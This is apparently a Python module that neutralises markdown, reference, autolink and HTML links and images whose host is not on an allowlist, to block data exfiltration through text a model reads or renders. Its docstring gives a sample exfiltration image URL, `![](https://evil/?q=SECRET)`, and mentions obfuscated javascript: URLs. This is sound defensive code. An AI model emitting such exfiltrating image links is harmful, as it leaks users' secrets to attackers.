"""Links and images in text the model reads, checked against a domain allowlist.

A markdown image is fetched by the client the moment it renders, so `![](https://evil/?q=SECRET)`
exfiltrates without a click; a link does it with one. Both are neutralised when their host is not
allowed: the construct is replaced by a visible notice naming the host, and link text is kept.

Covered: inline images and links `![a](u)` `[t](u)`, reference definitions `[id]: u` (which is
where reference-style links and images keep their URL), autolinks `<https://…>`, and HTML `<img>`,
`<a>`, and any other tag's `src`/`href`/`srcset`/`poster`/`action` attribute. Bare URLs in prose
are left alone: no renderer fetches them, and rewriting every URL mention would destroy ordinary
text.

URL rules: `http(s)` and protocol-relative URLs need an allowed host; relative URLs (no scheme, no
host) resolve against the client's own origin and pass; `data:image/(png|gif|jpeg|webp)` images
pass when `allow_data_images` is on (they are inline, nothing is fetched; SVG can fetch and script,
so it never passes); every other scheme (`javascript:`, `file:`, `mailto:`…) is neutralised.
"""

from __future__ import annotations

import functools
import html
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from fnmatch import fnmatchcase
from urllib.parse import urlsplit

# Possessive (`*+`, `++`): what follows a URL or a title can never start inside one, so giving
# characters back cannot make a match; not trying it makes the search about twice as fast.
_URL = r"(?P<url><[^\n<>]*+>|[^\s<()](?:[^\s()]++|\([^\s()]*+\))*+)"
_TITLE = r"""(?:\s+(?:"[^"\n]*+"|'[^'\n]*+'|\([^()\n]*+\)))?"""
_LABEL = r"\[((?:[^\[\]\n]|\[[^\[\]\n]*+\]){0,500})\]"
_INLINE = re.compile(r"(!?)" + _LABEL + r"\(\s*" + _URL + _TITLE + r"\s*\)")
_REFERENCE = re.compile(r"^[ \t]{0,3}\[([^\[\]\n]{1,200})\]:[ \t]*" + _URL + r"[^\n]*$",
                        re.MULTILINE)
# After `](` or a reference's `]:`, a destination counts even where the patterns above read no
# whole link around it (a label over 500 characters or across lines, a title across lines, a
# definition in a block quote or with its URL on the next line): a renderer may still fetch it,
# and replacing it from the `(` or `:` on leaves no link. Titles are bounded: linear time.
_LOOSE_DESTINATION = re.compile(
    r"\][(:][ \t]*(?:\r?\n[ \t]*)?" + _URL
    + r"""(?:\s+(?:"[^"]{0,1000}"|'[^']{0,1000}'|\([^()]{0,1000}\)))?[ \t]*\)?""")
_AUTOLINK = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
_ANY_TAG = re.compile(r"</?[A-Za-z][^<>]*>")
_TAG_START = re.compile(r"<([A-Za-z][A-Za-z0-9-]{0,31})\b")
_CLOSE_ANCHOR = re.compile(r"</a\s*>", re.IGNORECASE)
MAX_ANCHOR_TEXT = 2000
REMEMBERED_URLS = 4096  # answers of `LinkPolicy.allows` kept (all policies together)…
MAX_REMEMBERED_URL = 512  # …for URLs up to this many characters: at most ~8 MB
_ATTRIBUTE = re.compile(
    r"""\b(src|href|srcset|poster|action|formaction|background|data)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""",
    re.IGNORECASE)
_DATA_IMAGE = re.compile(r"^data:image/(?:png|gif|jpe?g|webp)(?:;[^,]*)?,", re.IGNORECASE)
_IMAGE_TAGS = frozenset({"img", "image", "picture", "source", "video", "audio", "input", "svg"})
_SCHEME = re.compile(r"^([A-Za-z][A-Za-z0-9+.-]*):")
_IGNORED_BY_BROWSERS = re.compile(r"[\t\n\r]")
_LEADING_CONTROLS = re.compile(r"^[\x00-\x20]+")


def _as_browser_reads(url: str) -> str:
    """Entities decoded, tabs/newlines dropped, leading controls stripped, backslashes as slashes:
    the URL a browser would request, so `&#106;avascript:` or `/\\evil.example` cannot pass."""
    url = _IGNORED_BY_BROWSERS.sub("", html.unescape(url))
    url = _LEADING_CONTROLS.sub("", url).strip()
    return url.replace("\\", "/")


@dataclass(frozen=True, slots=True)
class LinkPolicy:
    allow_domains: tuple[str, ...] = ()
    allow_data_images: bool = True

    def allows(self, url: str, *, image: bool) -> str | None:
        """None when the URL may stay; otherwise what to call its destination in the notice.
        Pages repeat their links (navigation, footers) and sites their pages: answers for
        short URLs are remembered."""
        if len(url) > MAX_REMEMBERED_URL:
            return self.destination(url, image=image)
        return _remembered_destination(self, url, image)

    def destination(self, url: str, *, image: bool) -> str | None:
        """`allows`, worked out."""
        url = _as_browser_reads(url)
        if not url or url.startswith("#"):
            return None
        if _DATA_IMAGE.match(url):
            return None if image and self.allow_data_images else "data: URL"
        scheme = _SCHEME.match(url)
        if scheme is None and not url.startswith("//"):
            return None  # relative: the client's own origin
        if scheme is not None and scheme.group(1).lower() not in ("http", "https"):
            return f"{scheme.group(1).lower()}: URL"
        try:
            host = (urlsplit(url).hostname or "").rstrip(".")
        except ValueError:
            return "malformed URL"
        if not host:
            return "URL without a host"
        return None if self.host_allowed(host) else host

    def host_allowed(self, host: str) -> bool:
        if not self.allow_domains:
            return False
        try:
            host = host.encode("idna").decode("ascii").lower()
        except UnicodeError:
            return False
        return any(_matches(host, pattern) for pattern in self.allow_domains)


@functools.lru_cache(maxsize=REMEMBERED_URLS)
def _remembered_destination(policy: LinkPolicy, url: str, image: bool) -> str | None:
    return policy.destination(url, image=image)


def _matches(host: str, pattern: str) -> bool:
    pattern = pattern.lower().rstrip(".")
    if pattern.startswith("*."):
        return host.endswith(pattern[1:]) and fnmatchcase(host, pattern)
    return host == pattern


@dataclass(frozen=True, slots=True)
class LinkHit:
    start: int
    end: int
    kind: str  # "image" or "link"
    destination: str  # the host (or "javascript: URL"…) named in the notice
    replacement: str


def image_notice(destination: str) -> str:
    return f"[image removed: {destination} not allowed]"


def link_notice(destination: str) -> str:
    return f"[link removed: {destination} not allowed]"


def find_unsafe_links(text: str, policy: LinkPolicy) -> list[LinkHit]:
    """Every link or image in `text` whose destination the policy does not allow, without
    overlaps, in order."""
    # Every construct needs a `]` (inline links, reference definitions: `](`, `]:`) or a `<`
    # (autolinks `<scheme:…>`, tags, whose URL sits in an attribute `name=value`). Single
    # characters are found with memchr, about 60 times faster than a two-character needle or a
    # regex scan, so clean text costs almost nothing.
    bracket, angle = "]" in text, "<" in text
    if not bracket and not angle:
        return []
    hits: list[LinkHit] = []
    if bracket:
        if "](" in text:
            hits += _inline(text, policy)
        if "]:" in text:
            hits += _references(text, policy)
    if angle:
        if ":" in text:
            hits += _autolinks(text, policy)
        if "=" in text:
            hits += _html(text, policy)
    return _without_overlaps(hits) if hits else hits


def neutralised(text: str, policy: LinkPolicy) -> str:
    """`text` with its unsafe links replaced: for a label kept in a replacement, as the links
    inside a link's text are shown (and fetched) too."""
    hits = find_unsafe_links(text, policy)
    if not hits:
        return text
    pieces, last = [], 0
    for hit in hits:
        pieces += [text[last:hit.start], hit.replacement]
        last = hit.end
    pieces.append(text[last:])
    return "".join(pieces)


def _inline(text: str, policy: LinkPolicy) -> Iterable[LinkHit]:
    read: list[tuple[int, int]] = []
    for match in _inline_matches(text):
        # from the label's `]` on; a `](` inside the label is a link of its own, which
        # renderers show (links do not nest), so it is looked at too
        read.append((match.end(2), match.end()))
        image = match.group(1) == "!"
        destination = policy.allows(_unbracketed(match.group("url")), image=image)
        if destination is None:
            continue
        label = neutralised(match.group(2), policy)
        if image:
            replacement = image_notice(destination)
        else:
            notice = link_notice(destination)
            replacement = f"{label} {notice}" if label else notice
        yield LinkHit(match.start(), match.end(), "image" if image else "link", destination,
                      replacement)
    yield from _loose(text, "](", read, policy, image=False)  # the `!` may be far: link rules


def _loose(text: str, marker: str, read: list[tuple[int, int]], policy: LinkPolicy, *,
           image: bool) -> Iterator[LinkHit]:
    """Unsafe destinations after each `marker` (`](` or `]:`) outside the links already `read`
    (spans in order), see `_LOOSE_DESTINATION`."""
    after, index = 0, 0
    position = text.find(marker)
    while position != -1:
        while index < len(read) and read[index][1] <= position:
            index += 1
        if index < len(read) and read[index][0] <= position:  # inside a link read already
            position = text.find(marker, read[index][1])
            continue
        match = _LOOSE_DESTINATION.match(text, position)
        if match is not None:
            after = match.end()
            destination = policy.allows(_unbracketed(match.group("url")), image=image)
            if destination is not None:
                joiner = ": " if marker == "]:" else " "
                yield LinkHit(position + 1, match.end(), "link", destination,
                              joiner + link_notice(destination))
        position = text.find(marker, max(position + 1, after))


def _inline_matches(text: str) -> Iterator[re.Match[str]]:
    """`_INLINE.finditer(text)`, tried only where a `[` is (found with memchr) or at the `!`
    just before one: everywhere else the pattern cannot start, and a regex scan that tests
    every character costs ten times as much on ordinary text."""
    after = 0  # where the last match ended: matches do not overlap
    bracket = text.find("[")
    while bracket != -1:
        match = None
        if bracket > after and text[bracket - 1] == "!":
            match = _INLINE.match(text, bracket - 1)
        match = match or _INLINE.match(text, bracket)
        if match is None:
            bracket = text.find("[", bracket + 1)
            continue
        yield match
        after = match.end()
        bracket = text.find("[", after)


def _unbracketed(url: str) -> str:
    return url[1:-1] if url.startswith("<") and url.endswith(">") else url


def _references(text: str, policy: LinkPolicy) -> Iterable[LinkHit]:
    read: list[tuple[int, int]] = []
    for match in _REFERENCE.finditer(text):
        read.append(match.span())
        # Whether the definition serves an image or a link is not known here: image rules apply.
        destination = policy.allows(_unbracketed(match.group("url")), image=True)
        if destination is not None:
            yield LinkHit(match.start(), match.end(), "link", destination,
                          f"[{match.group(1)}]: {link_notice(destination)}")
    yield from _loose(text, "]:", read, policy, image=True)


def _autolinks(text: str, policy: LinkPolicy) -> Iterable[LinkHit]:
    for match in _AUTOLINK.finditer(text):
        destination = policy.allows(match.group(1), image=False)
        if destination is not None:
            yield LinkHit(match.start(), match.end(), "link", destination, link_notice(destination))


def _html(text: str, policy: LinkPolicy) -> Iterable[LinkHit]:
    for name, start, end in _tags(text):
        image = name in _IMAGE_TAGS
        destination = _tag_destination(text[start:end], policy, image=image)
        if destination is None:
            continue
        if name == "a":
            yield _anchor(text, start, end, destination, policy)
        else:
            notice = image_notice(destination) if image else link_notice(destination)
            yield LinkHit(start, end, "image" if image else "link", destination, notice)


def _tags(text: str) -> Iterator[tuple[str, int, int]]:
    """(lower-cased name, start, end) of each opening tag, in one linear pass: a `<` inside a
    tag does not start another, and each `>` is searched for once."""
    position = text.find("<")
    while position != -1:
        match = _TAG_START.match(text, position)
        if match is None:
            position = text.find("<", position + 1)
            continue
        close = text.find(">", match.end())
        if close == -1:
            return
        yield match.group(1).lower(), position, close + 1
        position = text.find("<", close + 1)


def _anchor(text: str, start: int, end: int, destination: str, policy: LinkPolicy) -> LinkHit:
    """`<a …>label</a>` becomes `label [link removed: …]` (label without its tags)."""
    notice = link_notice(destination)
    window = text[end:end + MAX_ANCHOR_TEXT]
    close = _CLOSE_ANCHOR.search(window)
    if close is None:
        return LinkHit(start, end, "link", destination, notice)
    label = neutralised(_ANY_TAG.sub("", window[:close.start()]).strip(), policy)
    return LinkHit(start, end + close.end(), "link", destination,
                   f"{label} {notice}" if label else notice)


def _tag_destination(tag: str, policy: LinkPolicy, *, image: bool) -> str | None:
    for attribute in _ATTRIBUTE.finditer(tag):
        value = attribute.group(2).strip("\"'")
        urls = [part.split()[0] for part in value.split(",") if part.strip()] \
            if attribute.group(1).lower() == "srcset" else [value]
        for url in urls:
            destination = policy.allows(url, image=image)
            if destination is not None:
                return destination
    return None


def _without_overlaps(hits: list[LinkHit]) -> list[LinkHit]:
    kept: list[LinkHit] = []
    for hit in sorted(hits, key=lambda h: (h.start, -h.end)):
        if kept and hit.start < kept[-1].end:
            continue
        kept.append(hit)
    return kept
